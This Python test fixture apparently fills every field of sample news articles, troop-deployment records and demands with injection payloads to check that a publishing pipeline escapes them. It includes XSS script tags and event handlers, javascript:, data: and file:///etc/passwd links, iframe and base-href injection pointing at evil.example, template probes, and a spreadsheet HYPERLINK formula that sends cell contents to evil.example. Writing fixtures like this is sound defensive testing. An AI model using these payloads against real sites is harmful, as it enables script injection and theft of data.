"""A day on which every text that a page can set is an attack."""

from typing import Any

from publish_samples import Tables, article, check, covered, demand, deployment, of, place

SCRIPT = "<script>document.title='pwned'</script>"
ATTACKS = (
    SCRIPT,
    "</script></style></title>" + SCRIPT,
    "<img src=x onerror=\"document.title='pwned'\">",
    "<svg onload=\"document.title='pwned'\"><style>body{display:none}</style></svg>",
    "\"><iframe src='https://evil.example/frame'></iframe>",
    "' onmouseover='document.title=1' autofocus onfocus='document.title=`pwned`' x='",
    "<link rel=stylesheet href=https://evil.example/a.css><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<!-- standing: end --><base href='https://evil.example/'>",
    "{{ 7 * 7 }}{% raw %}${7*7}",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "abc\u202egpj.exe\u202c\x00\x1b[31m\u2066\ufeff",
)
LINKS = (
    "javascript:document.title='pwned'",
    " javascript:document.title='pwned'",
    "JaVaScRiPt:document.title='pwned'",
    "java\nscript:document.title='pwned'",
    "data:text/html,<script>document.title='pwned'</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://user@evil.example/x",
    "https://",
    'https://evil.example/"onclick="document.title=1',
)


def hostile() -> Tables:
    """Every text that a page can set holds an attack."""
    articles, found, wanted = [], [], []
    for n, attack in enumerate((*ATTACKS, *LINKS)):
        link = LINKS[n % len(LINKS)]
        bad: dict[str, Any] = {
            "title": f"{n} {attack}",
            "outlet": attack,
            "canonical_url": link,
            "url": link,
            "warc_file": attack,
        }
        articles.append(article(**bad))
        sentence = f"{attack} says 500 troops are in Russia {attack}"
        found.append(
            deployment(
                articles[-1],
                sentence,
                count="500",
                bounds=(500, 500),
                speaker_text=attack,
                force_text=attack,
                unit_name=attack,
                force_owner_code=None,
                force_owner_text=attack,
                unresolved=attack,
                places=[place(sentence, attack, None)],
            )
        )
        wanted.append(
            demand(
                articles[-1],
                f"{attack} demanded {attack}",
                "demanded",
                attack,
                condition_text=attack,
                consequence_text=attack,
                demander_code=None,
                demander_text=attack,
                addressee_text=attack,
                addressee_code=None,
            )
        )
    checks = [check(f"c{n}", passed=False, severity="warning", observed=attack) for n, attack in enumerate(ATTACKS)]
    return of(articles, found, wanted, [covered("narae_wire", reason=SCRIPT)], checks)
